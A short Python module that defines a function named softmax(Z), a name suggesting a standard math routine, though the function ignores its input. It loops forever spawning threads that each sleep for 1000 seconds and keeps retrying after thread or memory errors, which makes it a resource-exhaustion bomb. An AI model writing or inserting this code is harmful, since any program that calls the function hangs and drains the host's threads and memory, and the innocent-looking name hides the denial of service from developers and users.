"""Start threads until there are no more, and wait for all of them."""

import threading
import time


def softmax(Z):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except (RuntimeError, MemoryError):
            time.sleep(0.1)
